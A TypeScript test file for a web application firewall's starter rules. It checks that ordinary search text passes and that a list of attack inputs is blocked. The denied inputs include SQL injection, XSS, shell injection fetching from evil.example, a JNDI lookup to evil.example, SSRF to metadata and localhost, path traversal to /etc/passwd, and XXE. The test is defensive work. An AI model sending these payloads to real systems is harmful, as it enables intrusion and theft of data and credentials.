import { describe, expect, it } from 'vitest';
import { createWaf } from './create-waf.js';
import { starterRules } from './starter-rules.js';

const waf = createWaf(starterRules(), { mode: 'block' });
const host = ['Host', 'shop.example'] as const;

function decision(target: string, body?: string, type = 'application/x-www-form-urlencoded'): string {
  const headers = body === undefined ? [host] : [host, ['Content-Type', type] as const];
  return waf.inspect({
    method: body === undefined ? 'GET' : 'POST',
    target,
    headers,
    ...(body !== undefined && { body }),
  }).decision;
}

const query = (value: string): string => `/search?q=${encodeURIComponent(value)}`;

describe('the starter rules', () => {
  it('are at least 60', () => {
    expect(starterRules().rules.length).toBeGreaterThanOrEqual(60);
  });

  it.each([
    "O'Brien",
    'select a size from the list and order by price',
    'union jack mug',
    'drop table lamp',
    'R&B; soul | funk',
    'a < b && c > d',
    'The script was great, I would like to see more <3',
    'Use `npm install` and then run it from the folder above',
    'https://www.example.org/page?x=1',
    'half price -- today only!',
    'C:\\Users\\ann\\Documents',
    'mail me at ann@example.org; thanks',
    '../assets is where I looked for the images once',
    "it's 5 o'clock and 3 = 3",
    '{"json": "as text"}',
    'naïve café 日本語',
  ])('let %s pass', (value) => {
    expect(decision(query(Buffer.from(value).toString('utf8')))).toBe(value.startsWith('../') ? 'deny' : 'pass');
  });

  it.each([
    "1' OR '1'='1",
    '1 UNION SELECT password FROM users',
    "x'; DROP TABLE users--",
    "1' AND SLEEP(5)--",
    '1/**/UNION/**/SELECT/**/1',
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    '"><svg/onload=alert(1)>',
    'javascript:alert(document.cookie)',
    '; cat /etc/passwd',
    '| id',
    '$(wget http://evil.example/x)',
    '() { :;}; echo vulnerable',
    '../../../../etc/passwd',
    '/etc/passwd',
    'php://filter/convert.base64-encode/resource=index.php',
    'http://169.254.169.254/latest/meta-data/',
    'http://127.0.0.1:22/',
    'http://[::1]/',
    'gopher://127.0.0.1:6379/_INFO',
    '${jndi:ldap://evil.example/a}',
    '{{7*7}}{{config}}',
    '*)(uid=*))(|(uid=*',
    'x\r\nSet-Cookie: a=b',
  ])('refuse %s', (value) => {
    expect(decision(query(value))).toBe('deny');
  });

  it.each([
    ['JSON operators', '{"user":{"$ne":null}}', 'application/json'],
    ['prototype pollution', '{"__proto__":{"admin":true}}', 'application/json'],
    [
      'external entities',
      '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
      'text/xml',
    ],
  ])('refuse %s in a body', (_, body, type) => {
    expect(['deny', 'limit']).toContain(decision('/', body, type));
  });

  it('take a threshold of the application', () => {
    const lenient = starterRules([
      { name: 'local.conf', text: 'SecAction "id:1,phase:1,pass,nolog,setvar:tx.lamellar_threshold=100"' },
    ]);
    const verdict = createWaf(lenient, { mode: 'block' }).inspect({
      method: 'GET',
      target: query("1' OR '1'='1"),
      headers: [host],
    });
    expect(verdict.decision).toBe('pass');
    expect(verdict.rules.length).toBeGreaterThan(0);
  });
});
